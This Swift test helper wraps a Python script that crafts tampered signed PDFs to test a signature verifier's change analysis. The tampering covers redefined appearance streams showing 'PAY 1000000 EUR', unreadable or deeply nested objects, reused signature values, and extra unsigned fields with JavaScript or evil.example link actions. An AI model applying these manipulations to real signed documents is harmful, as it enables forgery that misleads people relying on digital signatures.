import CertificateProvidersTesting
import Foundation

/// Attacks on signed PDFs through the form and what qpdf cannot read: a redefined appearance
/// stream, an object at a broken offset or nested too deep, a reused signature value, new
/// unsigned signature fields that carry content or actions; and the preparing steps (a filled
/// field with an appearance, a visible empty signature field), made with pyHanko's writer or raw
/// incremental updates, for the change-analysis tests.
public enum PDFFieldAttacks {
    /// The modes of ``apply(_:to:writingTo:)``.
    public enum Mode: Sendable, CustomStringConvertible {
        /// Before signing: field `Name` gets a value and an appearance (an indirect `/AP /N` stream).
        case prepareFilledField
        /// Before signing: an empty, visible signature field `Sig1` (pyHanko, an empty appearance).
        case prepareVisibleSignatureField
        /// Redefines the `/AP /N` stream object of field `field` (same number, new content).
        case redefineAppearance(field: String)
        /// The catalog gets `/OpenAction n 0 R`; the cross-reference entry of `n` points into the
        /// middle of its body (`offset`) or its body nests arrays 2000 deep (`nesting`).
        case unreadableObject(String)
        /// A new signature field `Copy` whose `/V` is the first signature field's value.
        case reuseSignatureValue
        /// A new signature field `Extra` without a value: `empty` (an invisible widget),
        /// `emptyBox` (a widget with an empty appearance), `appearance` (a page-sized appearance
        /// painting text), `javascript` (`/AA`), `uri` (`/A`), `link` or `freeText` (a kid).
        case unsignedSignatureField(String)
        /// `count` incremental updates, each changing the document's `/Info` `/Title`.
        case infoUpdates(count: Int)
        /// The first signature's `/Contents` hex string loses its last digit to a space (the same
        /// length, an odd number of digits).
        case oddContents
        /// A new signature field `Indirect` signed by `openssl cms` (adbe.pkcs7.detached) whose
        /// `/ByteRange` is an indirect array; PEM files, the key encrypted with `KEY_PASSWORD`.
        case indirectByteRange(certificate: String, key: String, chain: String)

        /// The mode as the script's first argument.
        public var description: String {
            switch self {
            case .prepareFilledField: return "prepare-filled"
            case .prepareVisibleSignatureField: return "prepare-visible-sig"
            case .redefineAppearance(let field): return "redefine-ap:\(field)"
            case .unreadableObject(let variant): return "unreadable:\(variant)"
            case .reuseSignatureValue: return "reuse-value"
            case .unsignedSignatureField(let variant): return "unsigned-sig:\(variant)"
            case .infoUpdates(let count): return "info-updates:\(count)"
            case .oddContents: return "odd-contents"
            case .indirectByteRange(let certificate, let key, let chain):
                return "indirect-byterange:\(certificate):\(key):\(chain)"
            }
        }
    }

    /// Applies `mode` to the PDF at `input`, writing `output`.
    /// - Throws: when the script fails.
    public static func apply(
        _ mode: Mode,
        to input: String,
        writingTo output: String,
        environment: [String: String] = [:]
    ) throws {
        let result = try ExternalTool.run(
            "python3",
            ["-c", script, mode.description, input, output],
            environment: environment
        )
        guard result.status == 0 else {
            throw PDFAttacks.ExternalToolFailure(message: "attack \(mode): \(result.errorOutput)")
        }
    }

    static let script =
        PDFAttacks.script.components(separatedBy: "def main")[0] + #"""
            from pyhanko.sign import fields as sigfields

            AP_TEXT = b'1 1 1 rg 0 0 400 40 re f BT /Helv 20 Tf 4 12 Td 0 g (PAY 1000000 EUR) Tj ET'

            def form_xobject(writer, data, width=400, height=40):
                return writer.add_object(StreamObject({pdf_name('/Type'): pdf_name('/XObject'),
                    pdf_name('/Subtype'): pdf_name('/Form'),
                    pdf_name('/BBox'): ArrayObject([NumberObject(0), NumberObject(0), NumberObject(width), NumberObject(height)])},
                    stream_data=data))

            def find_field(writer, name):
                for ref in writer.root['/AcroForm']['/Fields']:
                    if ref.get_object().get('/T') == name:
                        return ref
                raise SystemExit('no field ' + name)

            def rect(*values):
                return ArrayObject([NumberObject(v) for v in values])

            def unsigned_sig(writer, variant):
                page_ref = first_page(writer)[0]
                field = DictionaryObject({pdf_name('/FT'): pdf_name('/Sig'), pdf_name('/T'): generic.TextStringObject('Extra')})
                kids = []
                if variant in ('link', 'freeText'):
                    field_ref = writer.add_object(field)
                    kid = DictionaryObject({pdf_name('/Type'): pdf_name('/Annot'), pdf_name('/Rect'): rect(72, 700, 472, 740),
                                            pdf_name('/P'): page_ref, pdf_name('/Parent'): field_ref})
                    if variant == 'link':
                        kid[pdf_name('/Subtype')] = pdf_name('/Link')
                        kid[pdf_name('/A')] = DictionaryObject({pdf_name('/S'): pdf_name('/URI'),
                                                                pdf_name('/URI'): generic.TextStringObject('https://evil.example')})
                    else:
                        kid[pdf_name('/Subtype')] = pdf_name('/FreeText')
                        kid[pdf_name('/DA')] = generic.TextStringObject('/Helv 20 Tf 0 g')
                        kid[pdf_name('/Contents')] = generic.TextStringObject('PAY 1000000 EUR')
                        kid[pdf_name('/AP')] = DictionaryObject({pdf_name('/N'): form_xobject(writer, AP_TEXT)})
                    kids = [writer.add_object(kid)]
                    field[pdf_name('/Kids')] = ArrayObject(kids)
                    add_to_form_and_page(writer, field_ref, page_ref, kids)
                    return
                field.update({pdf_name('/Type'): pdf_name('/Annot'), pdf_name('/Subtype'): pdf_name('/Widget'),
                              pdf_name('/P'): page_ref, pdf_name('/F'): NumberObject(4)})
                if variant == 'empty':
                    field[pdf_name('/Rect')] = rect(0, 0, 0, 0)
                elif variant == 'emptyBox':
                    field[pdf_name('/Rect')] = rect(72, 700, 272, 740)
                    field[pdf_name('/AP')] = DictionaryObject({pdf_name('/N'): form_xobject(writer, b'', 200, 40)})
                else:
                    field[pdf_name('/Rect')] = rect(0, 0, 595, 842)
                    data = AP_TEXT if variant == 'appearance' else b''
                    field[pdf_name('/AP')] = DictionaryObject({pdf_name('/N'): form_xobject(writer, data, 595, 842)})
                if variant == 'javascript':
                    field[pdf_name('/AA')] = DictionaryObject({pdf_name('/PO'): DictionaryObject({
                        pdf_name('/S'): pdf_name('/JavaScript'), pdf_name('/JS'): generic.TextStringObject('app.alert(1)')})})
                elif variant == 'uri':
                    field[pdf_name('/A')] = DictionaryObject({pdf_name('/S'): pdf_name('/URI'),
                                                              pdf_name('/URI'): generic.TextStringObject('https://evil.example')})
                ref = writer.add_object(field)
                add_to_form_and_page(writer, ref, page_ref, [ref])

            def reuse_value(writer):
                first = None
                for ref in writer.root['/AcroForm']['/Fields']:
                    if ref.get_object().get('/FT') == '/Sig' and '/V' in ref.get_object():
                        first = ref.get_object()
                        break
                page_ref = first_page(writer)[0]
                field = writer.add_object(DictionaryObject({pdf_name('/FT'): pdf_name('/Sig'),
                    pdf_name('/T'): generic.TextStringObject('Copy'), pdf_name('/V'): first.raw_get('/V'),
                    pdf_name('/Type'): pdf_name('/Annot'), pdf_name('/Subtype'): pdf_name('/Widget'),
                    pdf_name('/P'): page_ref, pdf_name('/Rect'): rect(0, 0, 0, 0)}))
                add_to_form_and_page(writer, field, page_ref, [field])

            def prepare_filled(writer):
                ref = find_field(writer, 'Name')
                field = ref.get_object()
                field[pdf_name('/V')] = generic.TextStringObject('Ivan Ivanov')
                field[pdf_name('/AP')] = DictionaryObject({pdf_name('/N'): form_xobject(writer,
                    b'/Tx BMC BT /Helv 12 Tf 2 10 Td (Ivan Ivanov) Tj ET EMC', 228, 30)})
                writer.mark_update(ref)

            def redefine_ap(writer, name):
                ref = find_field(writer, name)
                ap_ref = ref.get_object()['/AP'].raw_get('/N')
                assert isinstance(ap_ref, generic.IndirectObject), 'the appearance must be an indirect stream'
                stream = ap_ref.get_object()
                stream._data = AP_TEXT
                stream._encoded_data = None
                writer.mark_update(ap_ref)

            def unreadable(data, variant):
                reader = PdfFileReader(BytesIO(data))
                number = int(reader.trailer['/Size'])
                buffer = BytesIO()
                reader.root.write_to_stream(buffer)
                catalog = buffer.getvalue().rstrip()
                assert catalog.endswith(b'>>')
                catalog = catalog[:-2] + b' /OpenAction %d 0 R >>' % number
                action = b'<< /S /JavaScript /JS (app.alert\\(1\\)) >>'
                if variant == 'nesting':
                    action = b'<< /S /JavaScript /JS (app.alert\\(1\\)) /Deep ' + b'[' * 2000 + b']' * 2000 + b' >>'
                    return raw_update(data, objects={reader.root_ref.idnum: catalog, number: action})
                body = b'%d 0 obj\n' % number + action + b'\nendobj\n'
                padded = data + b'\n' + body
                return raw_update(padded, objects={reader.root_ref.idnum: catalog}, repoint={number: len(data) + 1 + 5})

            def info_updates(data, count):
                # Classic sections, each redefining the /Info dictionary (an LTV-class change).
                reader = PdfFileReader(BytesIO(data))
                number = int(reader.trailer['/Size'])
                root = b'%d %d R' % (reader.root_ref.idnum, reader.root_ref.generation)
                last = int(re.findall(rb'startxref\s+(\d+)', data)[-1])
                out = bytearray(data if data.endswith(b'\n') else data + b'\n')
                for index in range(count):
                    offset = len(out)
                    out += b'%d 0 obj\n<< /Title (Revision %d) >>\nendobj\n' % (number, index)
                    start = len(out)
                    out += b'xref\n0 1\n0000000000 65535 f\r\n%d 1\n%010d 00000 n\r\n' % (number, offset)
                    out += (b'trailer\n<< /Size %d /Root %s /Info %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n'
                            % (number + 1, root, number, last, start))
                    last = start
                return bytes(out)

            def odd_contents(data):
                match = re.search(rb'/Contents\s*<([0-9A-Fa-f]+)>', data)
                end = match.end(1)
                return data[:end - 1] + b' ' + data[end:]

            def indirect_byterange(source, cert, key, chain):
                import subprocess, tempfile, os
                with open(source, 'rb') as f:
                    writer = IncrementalPdfFileWriter(f)
                    page_ref = first_page(writer)[0]
                    byte_range = writer.add_object(ArrayObject([NumberObject(0), NumberObject(1111111111),
                                                                NumberObject(2222222222), NumberObject(3333333333)]))
                    value = writer.add_object(DictionaryObject({pdf_name('/Type'): pdf_name('/Sig'),
                        pdf_name('/Filter'): pdf_name('/Adobe.PPKLite'), pdf_name('/SubFilter'): pdf_name('/adbe.pkcs7.detached'),
                        pdf_name('/ByteRange'): byte_range, pdf_name('/Contents'): generic.ByteStringObject(b'\x00' * 8192)}))
                    field = writer.add_object(DictionaryObject({pdf_name('/FT'): pdf_name('/Sig'),
                        pdf_name('/T'): generic.TextStringObject('Indirect'), pdf_name('/V'): value,
                        pdf_name('/Type'): pdf_name('/Annot'), pdf_name('/Subtype'): pdf_name('/Widget'),
                        pdf_name('/P'): page_ref, pdf_name('/Rect'): rect(0, 0, 0, 0), pdf_name('/F'): NumberObject(132)}))
                    add_to_form_and_page(writer, field, page_ref, [field])
                    buffer = BytesIO()
                    writer.write(buffer)
                data = buffer.getvalue()
                contents = re.search(rb'/Contents\s*<(0+)>', data)
                a, b = contents.start(1) - 1, contents.end(1) + 1
                placeholder = re.search(rb'\[\s*0\s+1111111111\s+2222222222\s+3333333333\s*\]', data)
                numbers = b'[0 %010d %010d %010d]' % (a, b, len(data) - b)
                numbers = numbers.ljust(placeholder.end() - placeholder.start())
                assert len(numbers) == placeholder.end() - placeholder.start()
                data = data[:placeholder.start()] + numbers + data[placeholder.end():]
                with tempfile.TemporaryDirectory() as work:
                    covered = os.path.join(work, 'covered.bin')
                    open(covered, 'wb').write(data[:a] + data[b:])
                    signature = os.path.join(work, 'signature.der')
                    subprocess.run(['openssl', 'cms', '-sign', '-binary', '-md', 'sha256', '-outform', 'DER', '-nosmimecap',
                                    '-signer', cert, '-inkey', key, '-passin', 'env:KEY_PASSWORD', '-certfile', chain,
                                    '-in', covered, '-out', signature], check=True)
                    value_hex = open(signature, 'rb').read().hex().encode()
                assert len(value_hex) <= b - a - 2
                return data[:a + 1] + value_hex.ljust(b - a - 2, b'0') + data[b - 1:]

            def main():
                mode, source, target = sys.argv[1], sys.argv[2], sys.argv[3]
                data = open(source, 'rb').read()
                if mode == 'odd-contents':
                    open(target, 'wb').write(odd_contents(data))
                    return
                if mode.startswith('indirect-byterange:'):
                    _, cert, key, chain = mode.split(':')
                    open(target, 'wb').write(indirect_byterange(source, cert, key, chain))
                    return
                if mode.startswith('unreadable:'):
                    open(target, 'wb').write(unreadable(data, mode.split(':')[1]))
                    return
                if mode.startswith('info-updates:'):
                    open(target, 'wb').write(info_updates(data, int(mode.split(':')[1])))
                    return
                with open(source, 'rb') as f, open(target, 'wb') as out:
                    writer = IncrementalPdfFileWriter(f)
                    if mode == 'prepare-filled':
                        prepare_filled(writer)
                    elif mode == 'prepare-visible-sig':
                        sigfields.append_signature_field(writer, sigfields.SigFieldSpec('Sig1', box=(72, 500, 272, 560),
                                                                                      on_page=0))
                    elif mode.startswith('redefine-ap:'):
                        redefine_ap(writer, mode.split(':')[1])
                    elif mode == 'reuse-value':
                        reuse_value(writer)
                    elif mode.startswith('unsigned-sig:'):
                        unsigned_sig(writer, mode.split(':')[1])
                    else:
                        raise SystemExit('unknown mode ' + mode)
                    writer.write(out)

            main()
            """#
}
